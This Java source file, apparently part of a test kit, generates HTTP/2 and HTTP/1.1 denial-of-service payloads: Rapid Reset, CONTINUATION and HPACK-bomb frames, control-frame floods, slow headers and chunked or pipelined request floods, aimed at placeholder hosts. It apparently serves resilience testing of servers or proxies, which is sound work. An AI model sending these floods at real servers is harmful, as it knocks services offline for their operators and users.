package dev.missent.attack.grammar;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;

import dev.missent.testkit.frame.HeaderBlock;
import dev.missent.testkit.message.Fields;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

/** What is cheap to send and dear to take: how such a connection begins, and what is sent again and again. */
public enum Flood {
    ONE_BYTE_DATA(true, "post") {
        @Override
        byte[] piece(int round) {
            return repeat(500, i -> frame(0, 0, 1, 'x'));
        }
    },
    EMPTY_DATA(true, "post") {
        @Override
        byte[] piece(int round) {
            return repeat(500, i -> frame(0, 0, 1));
        }
    },
    SETTINGS(true, "") {
        @Override
        byte[] piece(int round) {
            return repeat(500, i -> frame(4, 0, 0));
        }
    },
    PING(true, "") {
        @Override
        byte[] piece(int round) {
            return repeat(500, i -> frame(6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0));
        }
    },
    RAPID_RESET(true, "") {
        @Override
        byte[] piece(int round) {
            return repeat(100, i -> join(headers(1 + 2 * (round * 100 + i), 5, head("GET")),
                frame(3, 0, 1 + 2 * (round * 100 + i), 0, 0, 0, 8)));
        }
    },
    CONTINUATION(true, "") {
        @Override
        byte[] piece(int round) {
            return join(round == 0 ? headers(1, 1, head("GET")) : new byte[0],
                repeat(100, i -> frame(9, 0, 1, HeaderBlock.encode(Fields.of("x-a", "b")))));
        }
    },
    HPACK_BOMB(true, "") {
        @Override
        byte[] piece(int round) {
            // a long field goes into the table once; each further byte is that field again
            var block = new ByteArrayOutputStream();
            block.writeBytes(HeaderBlock.encode(head("GET")));
            block.writeBytes(new byte[]{0x40, 1, 'x', 0x7f, (byte) (3000 - 127 & 127 | 128), (byte) (3000 - 127 >> 7)});
            block.writeBytes("a".repeat(3000).getBytes(ISO_8859_1));
            block.writeBytes(repeat(12_000, i -> new byte[]{(byte) 0xbe}));
            return frame(1, 5, 1 + 2 * round, block.toByteArray());
        }
    },
    WINDOW_UPDATE(true, "") {
        @Override
        byte[] piece(int round) {
            return repeat(500, i -> frame(8, 0, 0, 0, 0, 0, 1));
        }
    },
    PRIORITY(true, "") {
        @Override
        byte[] piece(int round) {
            return repeat(500, i -> frame(2, 0, 1 + 2 * i, 0, 0, 0, 0, 1));
        }
    },
    UNREAD_RESPONSES(true, "") {
        @Override
        byte[] piece(int round) {
            return repeat(20, i -> headers(1 + 2 * (round * 20 + i), 5,
                Fields.of(":method", "GET", ":scheme", "http", ":authority", HOST, ":path", "/large")));
        }
    },
    ONE_BYTE_CHUNKS(false, "POST /mute HTTP/1.1\r\nHost: mute.example\r\nTransfer-Encoding: chunked\r\n\r\n") {
        @Override
        byte[] piece(int round) {
            return "1\r\nx\r\n".repeat(1000).getBytes(ISO_8859_1);
        }
    },
    SLOW_HEADS(false, "GET /slow HTTP/1.1\r\nHost: mute.example\r\n") {
        @Override
        byte[] piece(int round) {
            return new byte[]{(byte) "X-A: b\r\n".charAt(round % 8)};
        }
    },
    LONG_HEADS(false, "GET /long HTTP/1.1\r\nHost: mute.example\r\n") {
        @Override
        byte[] piece(int round) {
            return "X-A: b\r\n".repeat(200).getBytes(ISO_8859_1);
        }
    },
    PIPELINED(false, "") {
        @Override
        byte[] piece(int round) {
            return ("GET /large HTTP/1.1\r\nHost: " + HOST + "\r\n\r\n").repeat(100).getBytes(ISO_8859_1);
        }
    };

    /** The site whose upstream answers; {@code /large} is a long answer. */
    public static final String HOST = "answer.example";
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(ISO_8859_1);

    private final boolean http2;
    private final String first;

    Flood(boolean http2, String first) {
        this.http2 = http2;
        this.first = first;
    }

    /** What a connection begins with. */
    public byte[] beginning() {
        if (!http2) {
            return first.getBytes(ISO_8859_1);
        }
        var open = first.isEmpty()
            ? new byte[0]
            : headers(1, 4, Fields.of(":method", "POST", ":scheme", "http", ":authority", "mute.example", ":path", "/mute"));
        return join(join(PREFACE, frame(4, 0, 0)), open);
    }

    /** What comes then, for the first time with 0. */
    public byte[] next(int round) {
        return piece(round);
    }

    abstract byte[] piece(int round);

    private static Fields head(String method) {
        return Fields.of(":method", method, ":scheme", "http", ":authority", HOST, ":path", "/");
    }

    private static byte[] headers(int stream, int flags, Fields fields) {
        return frame(1, flags, stream, HeaderBlock.encode(fields));
    }

    private static byte[] frame(int type, int flags, int stream, int... payload) {
        byte[] bytes = new byte[payload.length];
        for (int i = 0; i < payload.length; i++) {
            bytes[i] = (byte) payload[i];
        }
        return frame(type, flags, stream, bytes);
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length).put((byte) (payload.length >> 16)).putShort((short) payload.length)
            .put((byte) type).put((byte) flags)
            .putInt(stream).put(payload).array();
    }

    private static byte[] join(byte[] one, byte[] other) {
        return ByteBuffer.allocate(one.length + other.length).put(one).put(other).array();
    }

    private static byte[] repeat(int count, java.util.function.IntFunction<byte[]> piece) {
        var out = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            out.writeBytes(piece.apply(i));
        }
        return out.toByteArray();
    }
}
